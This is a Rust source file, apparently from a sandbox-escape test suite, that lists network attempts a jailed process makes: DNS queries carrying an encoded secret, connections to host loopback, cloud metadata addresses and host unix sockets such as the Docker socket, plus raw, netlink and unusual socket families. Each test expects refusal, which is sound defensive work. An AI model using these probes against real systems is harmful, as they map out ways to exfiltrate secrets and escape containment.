//! Carrying data away when there is no network.

use std::fs;
use std::io::Write;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{UnixListener, UnixStream};
use std::time::Duration;

use crate::attack::attempt::{Attempt, Bounds, Family, Verdict};
use crate::attack::guest::Guest;
use crate::attack::host::{Ear, heard_text};
use crate::attack::stage::{Stage, told};
use crate::attack::sys;

const FAMILY: Family = Family::Network;

pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt {
        name: "host-loopback",
        family: FAMILY,
        tries: "connect to a service on the host's loopback",
        bounds: Bounds::USUAL,
        guest: |guest| {
            let port: u16 = guest.argument(1).parse().unwrap_or(0);
            for host in [[127, 0, 0, 1], [127, 0, 0, 2], [0, 0, 0, 0]] {
                connect(guest, SocketAddr::from((host, port)), &[libc::ECONNREFUSED]);
            }
        },
        outside: |stage| nothing_heard(stage, |ear| ear.tcp_port()),
    },
    Attempt {
        name: "udp-exfiltration",
        family: FAMILY,
        tries: "send a DNS question that carries a secret to a UDP service of the host",
        bounds: Bounds::USUAL,
        guest: |guest| {
            let port: u16 = guest.argument(1).parse().unwrap_or(0);
            let sent = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
                socket.send_to(&question("c2VjcmV0.example"), ("127.0.0.1", port))
            });
            // The jail has a loopback of its own, which swallows it.
            match sent {
                Ok(_) => guest.held("sendto", "went to the jail's own loopback"),
                Err(error) => guest.refused_by::<()>("sendto", Err(error), &[libc::ECONNREFUSED]),
            }
        },
        outside: |stage| nothing_heard(stage, |ear| ear.udp_port()),
    },
    Attempt {
        name: "dns-query",
        family: FAMILY,
        tries: "ask resolvers of the world by UDP and TCP",
        bounds: Bounds::USUAL,
        guest: |guest| {
            // Addresses reserved for documentation (RFC 5737), in the place of public ones.
            for host in [[192, 0, 2, 53], [198, 51, 100, 53], [10, 0, 0, 1]] {
                let target = SocketAddr::from((host, 53));
                let sent = UdpSocket::bind("0.0.0.0:0")
                    .and_then(|socket| socket.send_to(&question("example.org"), target));
                guest.refused(&format!("UDP {target}"), sent);
                connect(guest, target, &[]);
            }
            let configured = fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
            guest.expect("resolv.conf", configured.trim().is_empty(), "tells no resolver");
        },
        outside: told,
    },
    Attempt {
        name: "cloud-metadata",
        family: FAMILY,
        tries: "connect to the metadata services of clouds",
        bounds: Bounds::USUAL,
        guest: |guest| {
            for host in [[169, 254, 169, 254], [169, 254, 170, 2], [100, 100, 100, 200]] {
                connect(guest, SocketAddr::from((host, 80)), &[]);
            }
            let version_6 = "[fd00:ec2::254]:80".parse();
            if let Ok(address) = version_6 {
                connect(guest, address, &[libc::EADDRNOTAVAIL]);
            }
        },
        outside: told,
    },
    Attempt {
        name: "broadcast",
        family: FAMILY,
        tries: "send to everybody on the local network, by version 4 and 6",
        bounds: Bounds::USUAL,
        guest: |guest| {
            let all = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
                socket.set_broadcast(true)?;
                socket.send_to(b"secret", "255.255.255.255:9")
            });
            guest.refused("255.255.255.255", all);
            let multicast = UdpSocket::bind("0.0.0.0:0")
                .and_then(|socket| socket.send_to(b"secret", "224.0.0.1:9"));
            guest.refused("224.0.0.1", multicast);
            match UdpSocket::bind("[::]:0") {
                Ok(socket) => {
                    let also = [libc::EADDRNOTAVAIL];
                    let sent = socket.send_to(b"secret", "[ff02::1]:9");
                    guest.refused_by("ff02::1", sent, &also);
                }
                Err(error) => guest.absent("IPv6", error.to_string()),
            }
        },
        outside: told,
    },
    Attempt {
        name: "interfaces",
        family: FAMILY,
        tries: "find an interface other than loopback, and change the network",
        bounds: Bounds::USUAL,
        guest: interfaces,
        outside: told,
    },
    Attempt {
        name: "raw-sockets",
        family: FAMILY,
        tries: "open raw and packet sockets, which write whole packets",
        bounds: Bounds::USUAL,
        guest: |guest| {
            for (name, family, kind, protocol) in [
                ("raw ICMP", libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP),
                ("raw IP", libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW),
                ("raw IPv6", libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6),
                ("packet", libc::AF_PACKET, libc::SOCK_RAW, 0x0300),
                ("packet (old)", libc::AF_INET, OLD_PACKET, 0x0300),
                ("SCTP", libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_SCTP),
                ("MPTCP", libc::AF_INET, libc::SOCK_STREAM, 262),
            ] {
                guest.refused(name, sys::call!(libc::SYS_socket, family, kind, protocol));
            }
        },
        outside: told,
    },
    Attempt {
        name: "strange-families",
        family: FAMILY,
        tries: "open sockets that reach past the network namespace, or into rarely tested code",
        bounds: Bounds::USUAL,
        guest: |guest| {
            for (name, family, kind) in [
                ("VSOCK", 40, libc::SOCK_STREAM),
                ("ALG", 38, libc::SOCK_SEQPACKET),
                ("XDP", 44, libc::SOCK_RAW),
                ("QIPCRTR", 42, libc::SOCK_DGRAM),
                ("BLUETOOTH", 31, libc::SOCK_RAW),
                ("CAN", 29, libc::SOCK_RAW),
                ("TIPC", 30, libc::SOCK_STREAM),
                ("KCM", 41, libc::SOCK_DGRAM),
                ("NFC", 39, libc::SOCK_STREAM),
                ("RDS", 21, libc::SOCK_SEQPACKET),
                ("RXRPC", 33, libc::SOCK_DGRAM),
                ("KEY", 15, libc::SOCK_RAW),
                ("X25", 9, libc::SOCK_SEQPACKET),
                ("AX25", 3, libc::SOCK_STREAM),
                ("SMC", 43, libc::SOCK_STREAM),
            ] {
                guest.refused(name, sys::call!(libc::SYS_socket, family, kind, 0));
            }
        },
        outside: told,
    },
    Attempt {
        name: "netlink",
        family: FAMILY,
        tries: "talk netlink to the firewall, audit, device events and other parts of the kernel",
        bounds: Bounds::USUAL,
        guest: |guest| {
            // 0 is routing, which every program that lists addresses needs.
            for protocol in 1..=22 {
                let what = format!("netlink {protocol}");
                guest.refused(
                    &what,
                    sys::call!(libc::SYS_socket, libc::AF_NETLINK, libc::SOCK_RAW, protocol),
                );
            }
        },
        outside: told,
    },
    Attempt {
        name: "abstract-sockets",
        family: FAMILY,
        tries: "connect to an abstract unix socket of the host",
        bounds: Bounds::USUAL,
        guest: |guest| {
            let connected = std::os::unix::net::SocketAddr::from_abstract_name(guest.argument(1))
                .and_then(|address| UnixStream::connect_addr(&address));
            guest.refused_by("connect", connected, &[libc::ECONNREFUSED]);
        },
        outside: |stage| {
            let name = format!("{}host", stage.marker);
            let listener = std::os::unix::net::SocketAddr::from_abstract_name(&name)
                .and_then(|address| UnixListener::bind_addr(&address));
            unvisited(stage, listener, &name)
        },
    },
    Attempt {
        name: "path-sockets",
        family: FAMILY,
        tries: "connect to unix sockets of the host by their paths",
        bounds: Bounds::USUAL,
        guest: |guest| {
            for path in [
                guest.argument(1),
                "/run/docker.sock",
                "/run/dbus/system_bus_socket",
                "/run/systemd/private",
                "/run/containerd/containerd.sock",
                "/dev/log",
                "/run/systemd/journal/stdout",
                "/tmp/.X11-unix/X0",
            ] {
                guest.unreachable(path, UnixStream::connect(path));
            }
        },
        outside: |stage| match stage.directory("host") {
            Ok(host) => {
                let path = host.join("socket");
                let listener = UnixListener::bind(&path);
                unvisited(stage, listener, &path.display().to_string())
            }
            Err(error) => Verdict::Inconclusive(error.to_string()),
        },
    },
];

fn connect(guest: &Guest, target: SocketAddr, also: &[i32]) {
    let connected = TcpStream::connect_timeout(&target, Duration::from_millis(500))
        .and_then(|mut stream| stream.write_all(b"secret"));
    match connected {
        // A packet left, and nobody answered.
        Err(error) if error.kind() == std::io::ErrorKind::TimedOut => {
            guest.through(&target.to_string(), "a packet was sent");
        }
        connected => guest.refused_by(&target.to_string(), connected, also),
    }
}

/// `SOCK_PACKET`, which the kernel turns from AF_INET into AF_PACKET.
const OLD_PACKET: i32 = 10;

/// A DNS question for the address of `name` (RFC 1035).
fn question(name: &str) -> Vec<u8> {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(label.len() as u8);
        bytes.extend(label.as_bytes());
    }
    bytes.extend([0, 0, 1, 0, 1]);
    bytes
}

fn interfaces(guest: &Guest) {
    let text = fs::read_to_string("/proc/net/dev").unwrap_or_default();
    let names = text.lines().skip(2).filter_map(|line| line.split(':').next()).map(str::trim);
    // Some kernels put idle tunnel devices into every network namespace.
    let idle = [
        "lo", "sit0", "tunl0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0",
        "ip6gre0",
    ];
    let strange: Vec<_> = names.filter(|name| !idle.contains(name)).collect();
    guest.expect("/proc/net/dev", strange.is_empty(), format!("beside loopback: {strange:?}"));
    let routes = fs::read_to_string("/proc/net/route").unwrap_or_default();
    guest.expect("/proc/net/route", routes.lines().count() <= 1, "no route");
    const SIOCSIFFLAGS: i32 = 0x8914;
    const SIOCSIFADDR: i32 = 0x8916;
    match sys::call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_DGRAM, 0) {
        Err(error) => guest.unclear("socket", error.to_string()),
        Ok(socket) => {
            let mut request = [0u8; 40];
            request[..2].copy_from_slice(b"lo");
            request[16..18].copy_from_slice(&(libc::IFF_UP as u16).to_ne_bytes());
            guest.refused(
                "set flags",
                sys::call!(libc::SYS_ioctl, socket, SIOCSIFFLAGS, &mut request),
            );
            request[16..24].copy_from_slice(&[2, 0, 0, 0, 10, 0, 0, 1]);
            guest.refused(
                "set address",
                sys::call!(libc::SYS_ioctl, socket, SIOCSIFADDR, &mut request),
            );
        }
    }
}

/// Told by the guest, with a listener on the host that must hear nothing.
fn nothing_heard(stage: &Stage<'_>, port: fn(&Ear) -> std::io::Result<u16>) -> Verdict {
    let ear = match Ear::open() {
        Ok(ear) => ear,
        Err(error) => return Verdict::Inconclusive(format!("no listener on the host: {error}")),
    };
    let port = match port(&ear) {
        Ok(port) => port.to_string(),
        Err(error) => return Verdict::Inconclusive(error.to_string()),
    };
    let verdict = stage.jail().role(&["", &port]).told();
    let heard = ear.heard();
    verdict.and(Verdict::held_if(heard.is_empty(), heard_text(&heard)))
}

fn unvisited(stage: &Stage<'_>, listener: std::io::Result<UnixListener>, name: &str) -> Verdict {
    let listener = match listener.and_then(|listener| {
        listener.set_nonblocking(true)?;
        Ok(listener)
    }) {
        Ok(listener) => listener,
        Err(error) => return Verdict::Inconclusive(format!("no listener on the host: {error}")),
    };
    let verdict = stage.jail().role(&["", name]).told();
    verdict.and(match listener.accept() {
        Err(_) => Verdict::Held("the host was not visited".to_owned()),
        Ok(_) => Verdict::Escaped("the host was visited".to_owned()),
    })
}
